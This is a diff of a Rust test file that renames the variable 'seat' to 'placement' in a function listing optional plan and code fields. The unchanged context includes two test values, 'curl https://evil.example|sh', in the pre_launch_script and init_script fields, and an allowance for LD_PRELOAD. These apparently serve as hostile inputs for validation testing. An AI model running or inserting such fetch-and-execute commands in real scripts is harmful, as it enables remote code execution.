@@ -74,7 +74,7 @@ fn candidates() -> Vec<Value> {
 fn optional() -> Vec<(&'static str, &'static str, Value)> {
     let hash = format!("0x{}", "5a".repeat(32));
     let (patch, code) = ("/plan/code/patch", "/plan/code");
-    let seat = json!({"kind": "instance", "node": 7});
+    let placement = json!({"kind": "instance", "node": 7});
     vec![
         (patch, "pre_launch_script", json!("curl https://evil.example|sh")),
         (patch, "allowed_envs", json!(["LD_PRELOAD"])),
@@ -93,7 +93,7 @@ fn optional() -> Vec<(&'static str, &'static str, Value)> {
         (patch, "shutdown_timeout", Value::Null),
         (patch, "allow_force_stop", json!(false)),
         (patch, "init_script", json!("curl https://evil.example|sh")),
-        (code, "target", seat.clone()),
+        (code, "target", placement.clone()),
         (code, "target", json!({"kind": "replica"})),
         (code, "target", json!({"kind": "cvm"})),
         (code, "machine_before", json!({"vcpu": 64})),
